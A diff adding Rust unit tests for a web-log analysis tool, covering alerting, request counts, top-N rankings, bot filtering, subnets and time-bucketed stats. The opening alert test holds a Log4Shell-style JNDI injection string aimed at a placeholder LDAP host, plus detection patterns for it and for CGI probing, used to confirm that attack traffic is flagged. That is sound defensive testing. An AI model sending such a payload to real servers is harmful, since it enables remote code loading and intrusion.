+            ("203.0.113.5", "/", "203.0.113.5 - - [16/Jul/2024:10:00:00 +0000] \"GET / HTTP/1.1\" 200 12 \"-\" \"${jndi:ldap://x.example/a}\""),
+            ("198.51.100.7", "/index.html", "198.51.100.7 - - [16/Jul/2024:10:00:01 +0000] \"GET /index.html HTTP/1.1\" 200 12"),
+            ("198.51.100.7", "/CGI-BIN/%24%7Bjndi:", ""),
+        ];
+        for (ip, url, line) in lines {
+            log_data.add_entry(ip.to_string(), url.to_string(), line.to_string(), 1_721_124_000, "GET".to_string(), "example.com".to_string(), RequestDetails::default(), false);
+        }
+
+        assert_eq!(log_data.get_alert_count(), 2);
+        let (patterns, matches) = log_data.get_alerts();
+        assert_eq!(patterns, [("${jndi:".to_string(), 2), ("/cgi-bin/".to_string(), 1)]);
+        assert_eq!(matches.iter().map(|alert| (alert.ip.as_str(), alert.pattern.as_str())).collect::<Vec<_>>(), [("203.0.113.5", "${jndi:"), ("198.51.100.7", "${jndi:")]);
+        assert_eq!(matches[1].line, "/CGI-BIN/%24%7Bjndi:");
+    }
+
+    #[test]
+    fn test_unique_estimates() {
+        let mut log_data = LogData::new();
+        assert_eq!(log_data.get_unique_estimates(), None);
+
+        log_data.set_approx_unique();
+        for i in 0..200 {
+            log_data.add_entry(format!("10.0.0.{}", i % 50), format!("/page/{}", i), String::new(), 0, "GET".to_string(), "example.com".to_string(), RequestDetails::default(), false);
+        }
+
+        let (ips, urls) = log_data.get_unique_estimates().unwrap();
+        assert_eq!(ips, 50);
+        assert!(urls.abs_diff(200) <= 4, "estimated {} unique URLs", urls);
+        assert_eq!(log_data.get_unique_counts(), (50, 200));
+        assert_eq!(log_data.get_request_ratios().0, 4.0);
+    }
+
+    #[test]
+    fn test_approx_unique_caps_url_index() {
+        let mut log_data = LogData::new();
+        log_data.set_approx_unique();
+        for i in 0..MAX_INDEXED_ENTRIES + 50 {
+            log_data.add_entry("10.0.0.1".to_string(), format!("/page/{}", i), String::new(), 0, "GET".to_string(), "example.com".to_string(), RequestDetails::default(), false);
+        }
+        log_data.add_entry("10.0.0.1".to_string(), "/page/0".to_string(), String::new(), 0, "GET".to_string(), "example.com".to_string(), RequestDetails::default(), false);
+
+        assert_eq!(log_data.by_url.len(), MAX_INDEXED_ENTRIES);
+        assert_eq!(log_data.by_url["/page/0"].count, 2);
+        assert!(!log_data.by_url.contains_key(&format!("/page/{}", MAX_INDEXED_ENTRIES)));
+        assert_eq!(log_data.total_requests, MAX_INDEXED_ENTRIES + 51);
+    }
+
+    #[test]
+    fn test_category_counts() {
+        let mut log_data = LogData::new();
+        log_data.set_url_categories(UrlCategories::parse("api /api/*\nstatic *.css").unwrap());
+        for url in ["/api/users", "/api/orders", "/site.css", "/about"] {
+            log_data.add_entry("10.0.0.1".to_string(), url.to_string(), String::new(), 0, "GET".to_string(), "example.com".to_string(), RequestDetails::default(), false);
+        }
+
+        assert_eq!(log_data.get_top_n_by(GroupBy::Category, 10), vec![("api".to_string(), 2), ("other".to_string(), 1), ("static".to_string(), 1)]);
+        assert_eq!("category".parse::<GroupBy>(), Ok(GroupBy::Category));
+    }
+
+    #[test]
+    fn test_get_method_profile() {
+        let mut log_data = LogData::new();
+        for (ip, method) in [("10.0.0.1", "POST"), ("10.0.0.1", "POST"), ("10.0.0.1", "POST"), ("10.0.0.1", "GET"), ("10.0.0.2", "HEAD")] {
+            log_data.add_entry(ip.to_string(), "/login".to_string(), String::new(), 0, method.to_string(), "example.com".to_string(), RequestDetails::default(), false);
+        }
+
+        assert_eq!(log_data.get_method_profile("10.0.0.1"), vec![("POST".to_string(), 3, 0.75), ("GET".to_string(), 1, 0.25)]);
+        assert_eq!(log_data.get_method_profile("10.0.0.2"), vec![("HEAD".to_string(), 1, 1.0)]);
+        assert!(log_data.get_method_profile("10.0.0.3").is_empty());
+    }
+
+    #[test]
+    fn test_empty_dataset_stats() {
+        let log_data = LogData::new();
+        assert_eq!(log_data.get_requests_per_second(60), 0.0);
+        assert_eq!(log_data.get_requests_per_second(0), 0.0);
+        assert_eq!(log_data.get_response_time_stats(), None);
+        assert!(log_data.get_new_ips(300, 10).is_empty());
+        assert!(log_data.get_status_class_per_minute(5, 10).is_empty());
+    }
+
+    #[test]
+    fn test_get_top_n_in_range() {
+        let mut log_data = LogData::new();
+        let now = 1_700_000_000;
+        for (ip, timestamp) in [("10.0.0.1", now - 7200), ("10.0.0.1", now - 7100), ("10.0.0.1", now - 7000), ("10.0.0.2", now - 60), ("10.0.0.2", now)] {
+            log_data.add_entry(ip.to_string(), "/".to_string(), String::new(), timestamp, "GET".to_string(), "example.com".to_string(), RequestDetails::default(), false);
+        }
+
+        let (all_ips, _) = log_data.get_top_n_in_range(TopLimits::uniform(10), None);
+        assert_eq!(all_ips[0].0, "10.0.0.1");
+        assert_eq!(all_ips[0].1, 3);
+
+        let (recent_ips, recent_urls) = log_data.get_top_n_in_range(TopLimits::uniform(10), Some((now - 900, now)));
+        assert_eq!(recent_ips.len(), 1);
+        assert_eq!(recent_ips[0].0, "10.0.0.2");
+        assert_eq!(recent_ips[0].1, 2);
+        assert_eq!(recent_urls[0].1, 2);
+    }
+
+    #[test]
+    fn test_top_limits_per_category() {
+        let mut log_data = LogData::new();
+        for i in 0..5 {
+            for j in 0..5 {
+                let details = RequestDetails { status: Some(500 + j), ..Default::default() };
+                log_data.add_entry(format!("10.0.0.{}", i), format!("/{}", j), String::new(), 0, "GET".to_string(), "example.com".to_string(), details, false);
+            }
+        }
+        let limits = TopLimits::new(4, Some(1), Some(3), Some(2));
+        assert_eq!(limits, TopLimits { ips: 1, urls: 3, errors: 2, other: 4 });
+        assert_eq!(TopLimits::new(4, None, Some(3), None), TopLimits { ips: 4, urls: 3, errors: 4, other: 4 });
+
+        let (ips, urls) = log_data.get_top_n_in_range(limits, None);
+        assert_eq!((ips.len(), urls.len()), (1, 3));
+        let (ips, urls) = log_data.get_top_n(limits);
+        assert_eq!((ips.len(), urls.len()), (1, 3));
+        let (ips, urls) = log_data.get_top_n_for_domain("example.com", limits);
+        assert_eq!((ips.len(), urls.len()), (1, 3));
+        assert_eq!(log_data.get_top_n_by(GroupBy::Status, limits.for_group(GroupBy::Status)).len(), 4);
+        assert_eq!(log_data.get_top_error_urls(limits.errors).len(), 2);
+    }
+
+    #[test]
+    fn test_exclude_bots() {
+        let mut log_data = LogData::new();
+        let now = 1_700_000_000;
+        let requests = [("10.0.0.1", "/", false), ("10.0.0.1", "/", false), ("66.249.66.1", "/", true), ("66.249.66.1", "/robots.txt", true), ("66.249.66.1", "/robots.txt", true)];
+        for (ip, url, is_bot) in requests {
+            let details = RequestDetails { is_bot, response_size: Some(100), ..Default::default() };
+            log_data.add_entry(ip.to_string(), url.to_string(), String::new(), now, "GET".to_string(), "example.com".to_string(), details, false);
+        }
+
+        let (ips, urls) = log_data.get_top_n_in_range(TopLimits::uniform(10), None);
+        assert_eq!(ips.len(), 2);
+        assert_eq!(urls.len(), 2);
+        assert_eq!(log_data.visible_urls().count(), 2);
+
+        assert!(log_data.toggle_exclude_bots());
+        let (ips, urls) = log_data.get_top_n_in_range(TopLimits::uniform(10), Some((now - 60, now)));
+        assert_eq!(ips.iter().map(|(ip, count, _)| (ip.as_str(), *count)).collect::<Vec<_>>(), vec![("10.0.0.1", 2)]);
+        assert_eq!(urls.iter().map(|(url, count, _)| (url.as_str(), *count)).collect::<Vec<_>>(), vec![("/", 2)]);
+        assert_eq!(log_data.visible_urls().map(|(url, _)| url.as_str()).collect::<Vec<_>>(), vec!["/"]);
+
+        assert!(!log_data.toggle_exclude_bots());
+        assert_eq!(log_data.get_top_n_in_range(TopLimits::uniform(10), None).0.len(), 2);
+    }
+
+    #[test]
+    fn test_get_top_n_by_status_and_user_agent() {
+        let mut log_data = LogData::new();
+        let requests = [(200, "Mozilla/5.0"), (200, "curl/8.4.0"), (404, "Mozilla/5.0"), (200, "Mozilla/5.0"), (503, "curl/8.4.0")];
+        for (status, user_agent) in requests {
+            let details = RequestDetails { status: Some(status), user_agent: Some(user_agent.to_string()), ..Default::default() };
+            log_data.add_entry("10.0.0.1".to_string(), "/".to_string(), String::new(), 0, "GET".to_string(), "example.com".to_string(), details, false);
+        }
+        log_data.add_entry("10.0.0.2".to_string(), "/".to_string(), String::new(), 0, "GET".to_string(), "example.com".to_string(), RequestDetails::default(), false);
+
+        assert_eq!(
+            log_data.get_top_n_by(GroupBy::Status, 10),
+            vec![("200".to_string(), 3), ("404".to_string(), 1), ("503".to_string(), 1)]
+        );
+        assert_eq!(log_data.get_top_n_by(GroupBy::UserAgent, 1), vec![("Mozilla/5.0".to_string(), 3)]);
+        assert_eq!(log_data.get_top_n_by(GroupBy::Ip, 10), vec![("10.0.0.1".to_string(), 5), ("10.0.0.2".to_string(), 1)]);
+        assert_eq!(log_data.get_status_classes(), [0, 3, 0, 1, 1]);
+        assert_eq!("ua".parse::<GroupBy>(), Ok(GroupBy::UserAgent));
+        assert!("referer".parse::<GroupBy>().is_err());
+    }
+
+    #[test]
+    fn test_get_time_span() {
+        let mut log_data = LogData::new();
+        assert_eq!(log_data.get_time_span(), None);
+        for timestamp in [1_700_003_600, 1_700_000_000, 1_700_090_000, 1_700_050_000] {
+            log_data.add_entry("10.0.0.1".to_string(), "/".to_string(), String::new(), timestamp, "GET".to_string(), "example.com".to_string(), RequestDetails::default(), false);
+        }
+
+        assert_eq!(log_data.get_time_span(), Some((1_700_000_000, 1_700_090_000)));
+    }
+
+    #[test]
+    fn test_get_top_talkers_ranks_by_bytes() {
+        let mut log_data = LogData::new();
+        for (ip, size) in [("10.0.0.1", 200), ("10.0.0.1", 300), ("10.0.0.1", 100), ("10.0.0.2", 5_000_000), ("10.0.0.3", 700)] {
+            let details = RequestDetails { response_size: Some(size), ..Default::default() };
+            log_data.add_entry(ip.to_string(), "/".to_string(), String::new(), 0, "GET".to_string(), "example.com".to_string(), details, false);
+        }
+        log_data.add_entry("10.0.0.4".to_string(), "/".to_string(), String::new(), 0, "GET".to_string(), "example.com".to_string(), RequestDetails::default(), false);
+
+        assert_eq!(log_data.get_top_talkers(10), vec![
+            ("10.0.0.2".to_string(), 1, 5_000_000),
+            ("10.0.0.3".to_string(), 1, 700),
+            ("10.0.0.1".to_string(), 3, 600),
+        ]);
+        assert_eq!(log_data.get_top_talkers(1).len(), 1);
+    }
+
+    #[test]
+    fn test_get_top_subnets() {
+        let mut log_data = LogData::new();
+        for ip in ["203.0.113.5", "203.0.113.5", "203.0.113.9", "203.0.113.200", "198.51.100.7", "198.51.100.7", "2001:db8::1", "2001:db8::2", "unknown"] {
+            log_data.add_entry(ip.to_string(), "/".to_string(), String::new(), 0, "GET".to_string(), "example.com".to_string(), RequestDetails::default(), false);
+        }
+
+        assert_eq!(log_data.get_top_subnets(24, 10), vec![
+            ("203.0.113.0/24".to_string(), 4, 3),
+            ("198.51.100.0/24".to_string(), 2, 1),
+            ("2001:db8::/64".to_string(), 2, 2),
+        ]);
+        assert_eq!(log_data.get_top_subnets(16, 1), vec![("203.0.0.0/16".to_string(), 4, 3)]);
+        assert_eq!(subnet_of("10.1.2.3", 8).as_deref(), Some("10.0.0.0/8"));
+        assert_eq!(subnet_of("10.1.2.3", 33), None);
+    }
+
+    #[test]
+    fn test_first_seen_is_earliest_timestamp() {
+        let mut log_data = LogData::new();
+        for (ip, url, timestamp) in [("10.0.0.1", "/a", 1_700_003_600), ("10.0.0.1", "/b", 1_700_000_000), ("10.0.0.2", "/a", 1_700_090_000), ("10.0.0.1", "/a", 1_700_050_000)] {
+            log_data.add_entry(ip.to_string(), url.to_string(), String::new(), timestamp, "GET".to_string(), "example.com".to_string(), RequestDetails::default(), false);
+        }
+
+        assert_eq!(log_data.by_ip["10.0.0.1"].first_seen, 1_700_000_000);
+        assert_eq!(log_data.by_ip["10.0.0.2"].first_seen, 1_700_090_000);
+        assert_eq!(log_data.by_url["/a"].first_seen, 1_700_003_600);
+        assert_eq!(log_data.by_url["/b"].first_seen, 1_700_000_000);
+        assert_eq!(log_data.by_ip["10.0.0.1"].last_seen, 1_700_050_000);
+        assert_eq!(log_data.by_url["/a"].last_seen, 1_700_090_000);
+    }
+
+    #[test]
+    fn test_get_status_class_per_minute() {
+        let mut log_data = LogData::new();
+        let start = 1_700_000_040;
+        for (offset, status) in [(0, 500), (10, 503), (20, 200), (130, 502), (135, 404), (190, 200)] {
+            let details = RequestDetails { status: Some(status), ..Default::default() };
+            log_data.add_entry("10.0.0.1".to_string(), "/".to_string(), String::new(), start + offset, "GET".to_string(), "example.com".to_string(), details, false);
+        }
+        log_data.add_entry("10.0.0.1".to_string(), "/".to_string(), String::new(), start + 500, "GET".to_string(), "example.com".to_string(), RequestDetails::default(), false);
+
+        assert_eq!(log_data.get_status_class_per_minute(5, 5), vec![0, 2, 0, 1, 0]);
+        assert_eq!(log_data.get_status_class_per_minute(4, 2), vec![1, 0]);
+        assert_eq!(log_data.get_status_class_per_minute(2, 5), vec![0, 1, 0, 0, 1]);
+        assert!(log_data.get_status_class_per_minute(6, 5).is_empty());
+        assert!(LogData::new().get_status_class_per_minute(5, 5).is_empty());
+    }
+
+    #[test]
+    fn test_get_new_ips() {
+        let mut log_data = LogData::new();
+        let mut add = |ip: &str, timestamp: i64| {
+            log_data.add_entry(ip.to_string(), "/".to_string(), String::new(), timestamp, "GET".to_string(), "example.com".to_string(), RequestDetails::default(), false);
+        };
+        add("10.0.0.1", 1_700_000_000);
+        add("10.0.0.1", 1_700_003_600);
+        for offset in 0..30 {
+            add("10.0.0.2", 1_700_003_480 + offset * 4);
+        }
+        add("10.0.0.3", 1_700_003_590);
+        add("10.0.0.4", 1_700_003_200);
+
+        assert_eq!(log_data.get_new_ips(300, 10), vec![
+            ("10.0.0.2".to_string(), 30, 15.0),
+            ("10.0.0.3".to_string(), 1, 1.0),
+        ]);
+        assert_eq!(log_data.get_new_ips(300, 1).len(), 1);
+        assert_eq!(LogData::new().get_new_ips(300, 10), vec![]);
+    }
+
+    #[test]
+    fn test_get_recent_requests_sorted_newest_first() {
+        let mut log_data = LogData::new();
+        for (line, timestamp) in [("b", 20), ("a", 10), ("c", 20), ("d", 30)] {
+            log_data.add_entry("10.0.0.1".to_string(), "/".to_string(), line.to_string(), timestamp, "GET".to_string(), "example.com".to_string(), RequestDetails::default(), false);
+        }
+
+        let lines: Vec<&str> = log_data.get_recent_requests().iter().map(|r| r.log_line.as_str()).collect();
+        assert_eq!(lines, vec!["d", "c", "b", "a"]);
+    }
+
+    #[test]
+    fn test_recent_requests_window_is_capped() {
+        let mut log_data = LogData::new();
+        for i in 0..(MAX_RECENT_REQUESTS + 5) {
+            log_data.add_entry("10.0.0.1".to_string(), "/".to_string(), i.to_string(), i as i64, "GET".to_string(), "example.com".to_string(), RequestDetails::default(), false);
+        }
+
+        let recent = log_data.get_recent_requests();
+        assert_eq!(recent.len(), MAX_RECENT_REQUESTS);
+        assert_eq!(recent[0].log_line, (MAX_RECENT_REQUESTS + 4).to_string());
+        assert_eq!(recent[MAX_RECENT_REQUESTS - 1].log_line, "5");
+    }
+
+    #[test]
+    fn test_estimate_from_sample() {
+        let mut log_data = LogData::new();
+        assert_eq!(log_data.estimate(7), 7);
+
+        log_data.set_sample_percent(Some(10));
+        assert!(log_data.is_sampled());
+        assert_eq!(log_data.estimate(7), 70);
+
+        log_data.set_sample_percent(Some(100));
+        assert!(!log_data.is_sampled());
+    }
+
+    #[test]
+    fn test_top_n_for_domain() {
+        let mut log_data = LogData::new();
+        for (ip, url, domain) in [("10.0.0.1", "/", "shop.example"), ("10.0.0.1", "/cart", "shop.example"), ("10.0.0.2", "/cart", "shop.example"), ("10.0.0.3", "/", "blog.example")] {
+            log_data.add_entry(ip.to_string(), url.to_string(), String::new(), 0, "GET".to_string(), domain.to_string(), RequestDetails::default(), false);
+        }
+
+        assert_eq!(log_data.get_domains(), vec![("shop.example".to_string(), 3), ("blog.example".to_string(), 1)]);
+
+        let (ips, urls) = log_data.get_top_n_for_domain("shop.example", TopLimits::uniform(10));
+        assert_eq!(ips, vec![("10.0.0.1".to_string(), 2), ("10.0.0.2".to_string(), 1)]);
+        assert_eq!(urls, vec![("/cart".to_string(), 2), ("/".to_string(), 1)]);
+
+        let (ips, urls) = log_data.get_top_n_for_domain("blog.example", TopLimits::uniform(1));
+        assert_eq!(ips, vec![("10.0.0.3".to_string(), 1)]);
+        assert_eq!(urls, vec![("/".to_string(), 1)]);
+        assert_eq!(log_data.get_top_n_for_domain("unknown.example", TopLimits::uniform(10)), (vec![], vec![]));
+    }
+
+    #[test]
+    fn test_remove_ip() {
+        let mut log_data = LogData::new();
+        for (ip, url) in [("10.0.0.1", "/health"), ("10.0.0.1", "/health"), ("10.0.0.1", "/"), ("10.0.0.2", "/")] {
+            log_data.add_entry(ip.to_string(), url.to_string(), ip.to_string(), 0, "GET".to_string(), "example.com".to_string(), RequestDetails::default(), false);
+        }
+
+        assert!(log_data.remove_ip("10.0.0.1"));
+        assert!(!log_data.remove_ip("10.0.0.9"));
+
+        assert_eq!(log_data.total_requests, 1);
+        assert_eq!(log_data.get_unique_counts(), (1, 1));
+        assert_eq!(log_data.by_url["/"].count, 1);
+        assert!(!log_data.by_url["/"].clients.contains_key("10.0.0.1"));
+        assert_eq!(log_data.get_top_n_for_domain("example.com", TopLimits::uniform(10)), (vec![("10.0.0.2".to_string(), 1)], vec![("/".to_string(), 1)]));
+        assert!(log_data.get_recent_requests().iter().all(|request| request.ip == "10.0.0.2"));
+
+        log_data.add_entry("10.0.0.1".to_string(), "/health".to_string(), String::new(), 0, "GET".to_string(), "example.com".to_string(), RequestDetails::default(), false);
+        assert_eq!(log_data.total_requests, 1);
+        assert!(!log_data.by_ip.contains_key("10.0.0.1"));
+    }
+
+    #[test]
+    fn test_interval_stats() {
+        let mut log_data = LogData::new();
+        log_data.track_intervals(3600);
+        for (ip, timestamp, status) in [("10.0.0.1", 3600, 200), ("10.0.0.2", 3700, 502), ("10.0.0.1", 7199, 200), ("10.0.0.1", 7200, 404)] {
+            let details = RequestDetails { status: Some(status), ..Default::default() };
+            log_data.add_entry(ip.to_string(), "/".to_string(), String::new(), timestamp, "GET".to_string(), "example.com".to_string(), details, false);
+        }
+
+        let stats = log_data.get_interval_stats();
+        assert_eq!(stats.len(), 2);
+        assert_eq!((stats[0].0, stats[0].1.requests, stats[0].1.errors, stats[0].1.ips.len()), (3600, 3, 1, 2));
+        assert_eq!((stats[1].0, stats[1].1.requests, stats[1].1.errors, stats[1].1.ips.len()), (7200, 1, 0, 1));
+        assert!(LogData::new().get_interval_stats().is_empty());
+    }
+
     // #[test]
     // fn test_remove_outdated_intervals() {
     //     let mut log_data = LogData::new();
@@ -275,8 +1991,8 @@ mod tests {
     //     let timestamp = SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_secs() as i64;
     //     let old_timestamp = timestamp - (20 * 60 + 1); // 20 minutes and 1 second ago
     //
-    //     log_data.add_entry(ip.clone(), url.clone(), log_line.clone(), timestamp, "GET".to_string(), "example.com".to_string(), false);
-    //     log_data.add_entry(ip.clone(), url.clone(), log_line.clone(), old_timestamp, "GET".to_string(), "example.com".to_string(), false);
+    //     log_data.add_entry(ip.clone(), url.clone(), log_line.clone(), timestamp, "GET".to_string(), "example.com".to_string(), RequestDetails::default(), false);
+    //     log_data.add_entry(ip.clone(), url.clone(), log_line.clone(), old_timestamp, "GET".to_string(), "example.com".to_string(), RequestDetails::default(), false);
     //
     //     log_data.remove_outdated_intervals(timestamp);
     //